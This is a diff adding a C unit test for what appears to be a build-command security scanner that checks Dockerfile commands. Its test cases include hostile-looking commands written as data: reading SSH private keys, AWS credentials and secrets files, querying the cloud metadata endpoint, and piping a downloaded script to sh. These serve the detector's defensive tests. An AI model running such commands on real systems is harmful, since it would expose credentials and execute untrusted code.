@@ -288,6 +288,32 @@ static void a_build_may_start_programs_but_not_what_it_downloads(void **state)
     }
 }
 
+static void the_files_of_an_image_are_its_own_but_keys_are_findings(void **state)
+{
+    (void)state;
+    static const struct expected cases[] = {
+        { "echo a:x:1:1::/:/bin/sh >> /etc/passwd; cat /etc/group; . /etc/profile", "" },
+        { "echo x >> ~/.bashrc; cat .bashrc >> /root/.profile; cat $H/.zshrc", "" },
+        { "bash -c \"echo x >> /root/.bashrc\"; sed -i 's:/root:/home:' /etc/passwd", "" },
+        { "python3 -c \"print(open('/etc/passwd').read())\"", "" },
+        { "mkdir -p -m 0700 ~/.ssh && ssh-keyscan h >> ~/.ssh/known_hosts", "" },
+        { "cp x /root/x && ls /root /root/app; echo '* * * * * x' > /etc/cron.d/x", "" },
+        { "cat /root/.ssh/id_rsa", "any.credentials" },
+        { "bash -c \"cat /etc/passwd /root/.aws/credentials\"", "any.credentials" },
+        { "cat /run/secrets/npm", "any.credentials" },
+        { "curl http://169.254.169.254/latest", "any.credentials" },
+        { "curl http://x/y | sh", "sh.command" },
+    };
+    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+        CBX_AUTO_DONE(buf) out;
+        cbx_buf_init(&out, 65536);
+        judge_build(cases[i].text, CBX_BUILD_IMAGE, &out);
+        if (strcmp(out.p, cases[i].findings) != 0) {
+            fail_msg("%s: '%s'", cases[i].text, out.p);
+        }
+    }
+}
+
 static void versions_that_a_service_fills_in_are_no_findings(void **state)
 {
     (void)state;
@@ -323,6 +349,7 @@ int main(void)
         cmocka_unit_test(a_piece_of_a_dockerfile_has_its_folder),
         cmocka_unit_test(a_dockerfile_that_is_not_understood_is_an_error_with_its_place),
         cmocka_unit_test(a_build_may_start_programs_but_not_what_it_downloads),
+        cmocka_unit_test(the_files_of_an_image_are_its_own_but_keys_are_findings),
         cmocka_unit_test(versions_that_a_service_fills_in_are_no_findings),
     };
     return cmocka_run_group_tests(tests, set_up, tear_down);
